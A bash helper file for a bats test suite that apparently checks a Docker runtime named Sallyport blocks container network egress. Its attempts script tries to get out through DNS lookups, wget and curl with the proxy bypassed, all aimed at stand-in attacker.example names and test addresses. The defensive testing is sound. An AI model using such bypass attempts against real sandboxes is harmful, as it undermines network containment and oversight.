# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# The stage of docker_*.bats: the policy, internet and squid of common.bash, a Docker with one runtime per role, an image,
# and a second far end: the host itself, with a web and a name server. Everything that leaves a container arrives at one
# of the two and is written down there: $WORK/internet and $WORK/host each have `arrivals` and `queries`.
#
# Each attempt has addresses and names of its own (the number N and the word KEY of `attempts`), so that what arrived
# says which container it came from.

source "$BATS_TEST_DIRNAME/common.bash"
source "$BATS_TEST_DIRNAME/docker.bash"

DOCKER=$WORK/docker
HOST_NET=192.0.2 # every address of this TEST-NET is the host

# docker_stage_up [FILTER]: FILTER is jq's, for daemon.json.
docker_stage_up()
{
    local role
    stage_up
    host_up
    mkdir -p "$DOCKER" "$WORK/over/etc"
    for role in agent gateway dashboard strict undefined; do
        docker_role "$DOCKER" "$NETWORK" "$role"
    done
    docker_role "$DOCKER" nowhere
    docker_up "$DOCKER" "${1:-.}"
    cp "$WORK/internet/ca.pem" "$WORK/over/etc/"
    attempts_script >"$WORK/over/attempts"
    chmod 755 "$WORK/over/attempts"
    image_busybox image "$WORK/over"
    docker network create lab >/dev/null
    docker run --detach --name gateway --network none --runtime "sallyport.$NETWORK.gateway" \
        image /probe listen tcp 0.0.0.0 8642 >/dev/null
}

docker_stage_down()
{
    docker_down "$DOCKER"
    internet_stop "$WORK/host"
    ip route delete local "$HOST_NET.0/24" dev lo
    stage_down
}

# The host's resolver is on its loopback, as systemd-resolved's is: such a one is asked by Docker's embedded name server
# from the host, whatever becomes of the container's links.
host_up()
{
    mkdir -p "$WORK/host"
    cp "$WORK/internet/server.pem" "$WORK/internet/zone" "$WORK/host/"
    ip route add local "$HOST_NET.0/24" dev lo
    internet_serve "$WORK/host" ""
    echo "nameserver 127.0.0.1" >"$(readlink -m /etc/resolv.conf)"
}

# attempts KEY N [LINK...]: in the container, everything that leads out of it; with LINKs, also past all routes. It
# succeeds whatever comes of it: that is for the far ends to say. It says which of its attempts took long.
attempts_script()
{
    cat <<'SH'
#!/bin/sh
try()
{
    before=$(cut -d. -f1 /proc/uptime)
    timeout 4 "$@" >/dev/null 2>&1
    after=$(cut -d. -f1 /proc/uptime)
    [ $((after - before)) -le 2 ] || echo "slow: $*"
}
key=$1 n=$2
shift 2
try /probe tcp 203.0.113.$n 443
try /probe tcp 192.0.2.$n 443
try wget -O /dev/null http://203.0.113.$n/
try nslookup $key.direct.attacker.example 198.51.100.53
try nslookup $key.embedded.attacker.example 127.0.0.11
try nslookup $key.configured.attacker.example
try wget -O /dev/null http://$key.wanted.attacker.example/
try curl --noproxy '*' http://$key.curl.attacker.example/
for link in "$@"; do
    try /probe tcp 203.0.113.$n 8443 --device $link --timeout-ms 1000
    try /probe tcp 192.0.2.$n 8443 --device $link --timeout-ms 1000
done
echo tried
SH
}

# sealed DOCKER-RUN-ARGUMENT...: as the agent.
sealed()
{
    docker run --rm --runtime "sallyport.$NETWORK.agent" --env CURL_CA_BUNDLE=/etc/ca.pem "$@"
}

# plain DOCKER-RUN-ARGUMENT...: without Sallyport, for the counter-test.
plain()
{
    docker run --rm --runtime runc --env CURL_CA_BUNDLE=/etc/ca.pem "$@"
}

# sealed_sleeper NAME DOCKER-RUN-OPTION...; plain_sleeper likewise: containers to look into.
sealed_sleeper()
{
    local name=$1
    shift
    sealed --detach --name "$name" "$@" image sleep 600 >/dev/null
}

plain_sleeper()
{
    local name=$1
    shift
    plain --detach --name "$name" "$@" image sleep 600 >/dev/null
}

# arrived KEY N: what came of these attempts to the far ends, sorted, one a line: "internet PORT", "host PORT", "NAME".
arrived()
{
    {
        sed -n "s/^203\.0\.113\.$2 \([0-9]*\) .*/internet \1/p" "$WORK/internet/arrivals"
        sed -n "s/^192\.0\.2\.$2 \([0-9]*\) .*/host \1/p" "$WORK/host/arrivals"
        sed -n "s/^$1\.\([a-z]*\)\.attacker.example .*/\1/p" "$WORK/internet/queries" "$WORK/host/queries"
    } | sort -u
}

# all_tried: `$output` is that of attempts which all ended, none of them by waiting.
all_tried()
{
    [[ $status -eq 0 ]] || fail "exit status $status: $output"
    [[ $output == tried ]] || fail "expected that all were told at once: $output"
}

# nothing_arrived KEY N
nothing_arrived()
{
    local seen
    seen=$(arrived "$1" "$2")
    [[ -z $seen ]] || fail "arrived from $1: $seen"
}

# https_works COMMAND...: the command, up to and without the image's curl, reaches the allowed host, through squid.
https_works()
{
    local before after
    before=$(grep -c "^203.0.113.10 443 " "$WORK/internet/arrivals" || true)
    run "$@" curl --silent --show-error --max-time 10 https://api.openai.com/
    [[ $status -eq 0 ]] || fail "exit status $status: $output"
    says "hello from api.openai.com"
    after=$(grep -c "^203.0.113.10 443 " "$WORK/internet/arrivals")
    ((after == before + 1)) || fail "arrived $((after - before)) times"
}
